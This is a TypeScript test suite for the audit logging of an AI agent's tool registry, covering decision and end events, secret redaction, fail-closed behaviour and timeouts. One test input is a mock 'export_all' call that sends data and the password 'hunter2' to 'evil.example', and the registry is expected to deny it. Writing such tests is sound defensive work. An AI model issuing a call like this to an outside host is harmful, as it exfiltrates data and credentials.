import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { AuditEvent, ToolRegistryOptions } from '../src/index.ts';
import { createToolRegistry, defineTool, toolFailure } from '../src/index.ts';
import { call, errorOf } from './support.ts';

type Registry = Pick<ToolRegistryOptions<[]>, 'authorise' | 'audit'>;

const now = () => 1_000;

/** A registry with a tool whose starts are told among the events. */
function audited(options: Registry = {}) {
  const events: (AuditEvent | { type: 'started'; idempotencyKey: string })[] = [];
  const login = defineTool({
    name: 'login',
    description: 'Logs in.',
    input: z.object({ user: z.string(), badge: z.number(), how: z.string().default('ok') }),
    effect: 'once',
    sensitive: ['badge'],
    timeoutMs: 25,
    execute: ({ how }, { idempotencyKey }) => {
      events.push({ type: 'started', idempotencyKey });
      if (how === 'throw') throw new Error('down');
      if (how === 'hang') return new Promise(() => {});
      if (how === 'refuse') return toolFailure({ message: 'no', notStarted: true });
      return 'in';
    },
  });
  const audit = async (event: AuditEvent) => {
    events.push(event);
    await options.audit?.(event);
  };
  const registry = createToolRegistry({ tools: [login], ...options, audit });
  return { registry, events };
}

const args = { user: 'ada', badge: 1234, api_key: 'sk-0123456789abcdef' };

describe('E7: the audit of calls', () => {
  it('tells of the decision before the tool starts and of the end after it', async () => {
    const { registry, events } = audited();
    await registry.dispatch(call('login', args), { idempotencyKey: 'k', callId: 'c', now });
    expect(events).toEqual([
      {
        type: 'decision',
        at: 1_000,
        tool: 'login',
        callId: 'c',
        idempotencyKey: 'k',
        args: { user: 'ada', badge: '[hidden]', how: 'ok' },
        allowed: true,
      },
      { type: 'started', idempotencyKey: 'k' },
      {
        type: 'ended',
        at: 1_000,
        tool: 'login',
        callId: 'c',
        idempotencyKey: 'k',
        ok: true,
        outcome: 'done',
        attempts: 1,
        ms: 0,
      },
    ]);
  });

  it('tells how a call failed', async () => {
    const { registry, events } = audited();
    await registry.dispatch(call('login', { ...args, how: 'throw' }));
    expect(events.at(-1)).toMatchObject({
      type: 'ended',
      ok: false,
      outcome: 'unknown',
      code: 'thrown',
      class: 'unknown_outcome',
    });
  });

  it.each<[name: string, authorise: Required<Registry>['authorise'], reason: string]>([
    ['with its reason', () => ({ allowed: false, reason: 'not hers' }), 'not hers'],
    [
      'with the cause, which the model is not told',
      () => {
        throw new Error('db down');
      },
      'the decision failed: Error: db down',
    ],
  ])('tells of a denial %s', async (_name, authorise, reason) => {
    const { registry, events } = audited({ authorise });
    await registry.dispatch(call('login', args));
    expect(events).toMatchObject([{ type: 'decision', allowed: false, code: 'denied', reason }]);
  });

  it.each([
    [
      'an unknown tool',
      call('export_all', { to: 'evil.example', password: 'hunter2' }),
      'unknown_tool',
    ],
    [
      'wrong arguments',
      call('login', { user: 'ada', password: 'hunter2', badge: 'hunter2' }),
      'invalid_arguments',
    ],
    ['no call at all', { tool: 7, args: {} } as never, 'unreadable_call'],
  ])('tells of %s, with secrets redacted', async (_name, given, code) => {
    const { registry, events } = audited();
    await registry.dispatch(given);
    expect(events).toMatchObject([{ type: 'decision', allowed: false, code }]);
    expect(JSON.stringify(events)).not.toContain('hunter2');
  });

  it.each<[name: string, audit: Required<Registry>['audit']]>([
    [
      'throws',
      () => {
        throw new Error('disk full');
      },
    ],
    ['rejects', () => Promise.reject(new Error('disk full'))],
    ['never answers', () => new Promise<void>(() => {})],
  ])(
    'fails closed: a call whose decision is not taken does not start (%s)',
    async (_name, audit) => {
      const { registry, events } = audited({ audit });
      const observation = await registry.dispatch(call('login', args));
      expect(errorOf(observation)).toEqual({
        type: 'Denied',
        class: 'policy',
        code: 'denied',
        message: 'the call could not be audited, so it was not started',
      });
      // A store that took the decision all the same learns that nothing has started.
      expect(events).toMatchObject([
        { type: 'decision', allowed: true },
        { type: 'ended', ok: false, outcome: 'not_started', code: 'denied', attempts: 0 },
      ]);
    },
  );

  it.each([
    ['no time is left', { timeoutMs: 0 }],
    ['it was cancelled before', { signal: AbortSignal.abort() }],
  ])('tells of the decision also when %s, before it tells of the end', async (_name, options) => {
    const { registry, events } = audited({});
    await registry.dispatch(call('login', args), options);
    const types = events.map((event) => event.type);
    expect(['decision', 'decision,ended']).toContain(types.join());
  });

  it('does not take back what has happened when the end is not taken', async () => {
    const { registry } = audited({
      audit: ({ type }) => {
        if (type === 'ended') throw new Error('disk full');
      },
    });
    expect((await registry.dispatch(call('login', args))).text).toBe('in');
  });

  it('holds no call beyond its deadline, and still sends the end of one that timed out', async () => {
    const { registry, events } = audited({
      audit: ({ type }) => (type === 'ended' ? new Promise<void>(() => {}) : undefined),
    });
    const observation = await registry.dispatch(call('login', { ...args, how: 'hang' }));
    expect(errorOf(observation).code).toBe('unknown_outcome');
    expect(events.at(-1)).toMatchObject({ type: 'ended', outcome: 'unknown' });
  });

  it('for any mix of calls, every started one has its decision before it and its end behind it', async () => {
    const scripted = fc.record({
      tool: fc.constantFrom('login', 'login', 'unknown'),
      how: fc.constantFrom('ok', 'throw', 'hang', 'refuse'),
      badge: fc.constantFrom<unknown>(1, 1, 1, 'one'),
      decision: fc.constantFrom('yes', 'yes', 'no', 'throw', 'hang'),
      audit: fc.constantFrom('take', 'take', 'throw', 'hang'),
      isCancelled: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(scripted, { minLength: 1, maxLength: 8 }), async (calls) => {
        const scriptOf = (key: string) => calls[Number(key)]!;
        const never = new Promise<never>(() => {});
        const { registry, events } = audited({
          authorise: ({ idempotencyKey }) => {
            const { decision } = scriptOf(idempotencyKey);
            if (decision === 'throw') throw new Error('down');
            return decision === 'hang' ? never : decision === 'yes';
          },
          audit: ({ idempotencyKey }) => {
            const { audit } = scriptOf(idempotencyKey);
            if (audit === 'throw') throw new Error('full');
            return audit === 'hang' ? never : undefined;
          },
        });
        const controller = new AbortController();
        const dispatched = calls.map(({ tool, how, badge, isCancelled }, index) =>
          registry.dispatch(call(tool, { user: 'ada', badge: badge as number, how }), {
            idempotencyKey: String(index),
            timeoutMs: 25,
            ...(isCancelled ? { signal: controller.signal } : {}),
          }),
        );
        await Promise.resolve();
        controller.abort();
        await Promise.all(dispatched);
        for (const [index, { decision, audit, tool, badge }] of calls.entries()) {
          const types = events
            .filter(({ idempotencyKey }) => idempotencyKey === String(index))
            .map((event) => (event.type === 'decision' && !event.allowed ? 'denied' : event.type));
          const [first, ...rest] = types;
          if (types.includes('started')) {
            expect(types).toEqual(['decision', 'started', 'ended']);
            expect({ decision, audit, tool, badge }).toEqual({
              decision: 'yes',
              audit: 'take',
              tool: 'login',
              badge: 1,
            });
          } else {
            expect(['decision', 'denied']).toContain(first);
            expect(rest.filter((type) => type !== 'ended')).toEqual([]);
          }
        }
      }),
      { numRuns: 60 },
    );
  });
});
